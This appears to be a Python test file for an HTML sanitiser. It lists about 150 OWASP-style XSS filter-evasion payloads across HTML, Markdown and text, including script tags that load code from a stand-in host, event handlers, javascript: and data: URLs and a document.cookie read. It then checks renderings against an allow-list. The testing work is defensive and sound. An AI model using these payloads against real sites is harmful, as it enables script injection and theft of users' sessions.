"""XSS filter-evasion vectors (after the OWASP cheat sheet) and the check that nothing got through.

Every vector is placed inside a real article (so the extractor keeps the text around it), in
saved HTML, in Markdown and in a text dump. `unsafe_parts` lists what a rendering must never
contain: an element outside an allow-list, an event handler or any other attribute outside it,
or a link whose target is not http(s) or mailto once entities, whitespace and controls are
resolved the way a browser would.
"""

from __future__ import annotations

import re

from lxml import etree
from lxml import html as lxml_html

from tests.hostile_corpus import PROSE

JS = "alert(String.fromCharCode(88,83,83))"
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

HTML_VECTORS: list[str] = [
    # script in every spelling
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<script\t>alert(1)</script\n>",
    "<script>document.write('<scr'+'ipt src=//x.example/a.js></scr'+'ipt>')</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xmp><script>alert(1)</script></xmp>",
    # event handlers
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    f'<IMG SRC=/ onerror="{JS}"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<BODY ONLOAD=alert('XSS')>",
    '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<p onclick=alert(1) onmouseover='alert(2)'>Click the harbour</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<input autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">b</button>',
    "<marquee onstart=alert(1)>moving</marquee>",
    '<a href="http://good.example/" onmouseover="alert(1)">a good link</a>',
    # javascript:, data:, vbscript: in links and images
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<img srcset="javascript:alert(1) 1x, http://xss.example/a.png 2x" alt="a harbour picture">',
    '<picture><source srcset="javascript:alert(1)"><img src="http://xss.example/p.png" alt="the market at nine"></picture>',
    '<a href="javascript:alert(1)">javascript link</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case link</a>',
    '<a href="&#106;avascript:alert(1)">entity link</a>',
    '<a href="  javascript:alert(1)">spaced link</a>',
    '<a href="java\nscript:alert(1)">split link</a>',
    '<a href="jav&#x0A;ascript:alert(1)">entity newline link</a>',
    '<a href="javascript&colon;alert(1)">colon entity link</a>',
    f'<a href="data:text/html;base64,{B64_SCRIPT}">data link</a>',
    '<a href="vbscript:msgbox(1)">vbscript link</a>',
    '<a href="file:///etc/passwd">file link</a>',
    '<a href="//xss.example/">protocol relative</a>',
    '<a href="mailto:harbour@example.org?body=%3Cscript%3E">mail the harbour</a>',
    # svg and math
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(2)">Click</maction></math>',
    # frames, objects
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=http://xss.example/scriptlet.html <",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    f'<EMBED SRC="data:image/svg+xml;base64,{B64_SCRIPT}" type="image/svg+xml">',
    '<applet code="x.class" codebase="http://xss.example/"></applet>',
    # base, meta, link, style
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<base href="http://xss.example/"><a href="relative">relative after base</a>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,{B64_SCRIPT}">',
    '<meta http-equiv="Set-Cookie" content="USERID=<SCRIPT>alert(1)</SCRIPT>">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<link rel="prefetch" href="http://xss.example/prefetch">',
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS list</LI></UL>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">styled div</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">expression div</DIV>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">behaviour</XSS>',
    '<p style="color:red;background:url(http://xss.example/bg.png)">styled paragraph</p>',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">cell</TD></TR></TABLE>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    # odds and ends
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LAYER SRC="http://xss.example/scriptlet.html"></LAYER>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<a href="http://good.example/" target="_blank" rel="opener" style="x:expression(alert(1))">styled good link</a>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; is only text here</p>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<object data="javascript:alert(1)">',
    "<template><script>alert(1)</script></template>",
    '<div id="x" data-x="javascript:alert(1)" class="harbour" title="t" lang="en">attributes</div>',
]

MARKDOWN_VECTORS: list[str] = [
    "[a link](javascript:alert(1))",
    "[a link](JAVASCRIPT:alert(1))",
    "[a link](jav&#x61;script:alert(1))",
    "[a link](<javascript:alert(1)>)",
    "![an image](javascript:alert(1))",
    "![an image](http://xss.example/remote.png)",
    "<javascript:alert(1)>",
    "[a ref][r]\n\n[r]: javascript:alert(1)",
    f"[data](data:text/html;base64,{B64_SCRIPT})",
    "[vb](vbscript:msgbox(1))",
    "[file](file:///etc/passwd)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">raw link</a>',
    "<svg onload=alert(1)>",
    '<iframe src="http://xss.example/frame"></iframe>',
    "[paren](http://good.example/a)b)",
    "[paren](http://good.example/a) ![img](http://xss.example/x.png)",
    "```html\n<script>alert(1)</script>\n```",
    "<details><summary>s</summary><script>alert(1)</script></details>",
    '<p style="background:url(http://xss.example/bg.png)" onclick="alert(1)">styled</p>',
    "<style>body{background:url(http://xss.example/bg.png)}</style>",
    '<base href="http://xss.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
]

TEXT_VECTORS: list[str] = [
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">link</a>',
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
]


def html_article(vector: str, i: int) -> str:
    head = f"<title>Vector {i}</title>"
    if vector.lower().startswith(("<base", "<meta", "<link", "<style")):
        head += vector
    body = (
        f"<article><h1>Vector {i}</h1><p>{PROSE}</p><div>{vector}</div>"
        f"<p>{vector} {PROSE}</p><p>{PROSE}</p></article>"
    )
    return f"<!DOCTYPE html><html><head>{head}</head><body>{body}</body></html>"


def markdown_article(vector: str, i: int) -> str:
    return f"# Vector {i}\n\n{PROSE}\n\n{vector}\n\nText {vector} inline. {PROSE}\n"


def text_article(vector: str, i: int) -> str:
    return f"Vector {i}\n\n{PROSE}\n\n{vector}\n\n{PROSE} {vector}\n"


# -- the check ------------------------------------------------------------------------------

# What the reader's HTML may hold (the sanitiser's allow-list)...
READER_TAGS = frozenset(
    {
        "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "ul", "ol", "li", "blockquote",
        "pre", "code", "em", "strong", "i", "b", "u", "s", "sub", "sup", "small", "a",
        "table", "tr", "th", "td",
        "html", "body", "div",  # these three come from parsing a fragment
    }
)  # fmt: skip
READER_ATTRIBUTES = frozenset({"href", "title", "class"})
# ...and what a Markdown renderer may make of an export (no images: they would be fetched).
MARKDOWN_TAGS = READER_TAGS | {"thead", "tbody", "del"}
SAFE_URL = re.compile(r"^(?:https?://|mailto:)", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]+")


def _browser_url(value: str) -> str:
    """A URL attribute (entities already resolved by the parser) as a browser reads it:
    without whitespace and control characters."""
    return _INVISIBLE.sub("", value)


def unsafe_parts(html: str, tags: frozenset[str] = READER_TAGS) -> list[str]:
    """Everything in ``html`` that is not allowed (empty when it is clean)."""
    problems: list[str] = []
    if re.search(
        r"<\s*/?\s*(?:script|iframe|object|embed|svg|math|style|link|meta|base)\b", html, re.I
    ):
        problems.append("a dangerous tag in the raw text")
    if not html.strip():
        return problems
    root = lxml_html.fragment_fromstring(html, create_parent="div")
    for elem in root.iter():
        if not isinstance(elem.tag, str):
            if isinstance(elem, etree._ProcessingInstruction):
                problems.append("a processing instruction")
            continue
        if elem.tag.lower() not in tags:
            problems.append(f"element <{elem.tag}>")
        for name, value in elem.attrib.items():
            if name.lower().startswith("on"):
                problems.append(f"event handler {name}= on <{elem.tag}>")
            elif name.lower() not in READER_ATTRIBUTES:
                problems.append(f"attribute {name}= on <{elem.tag}>")
            elif name.lower() == "href" and not SAFE_URL.match(_browser_url(value)):
                problems.append(f"link to {value!r}")
    return problems
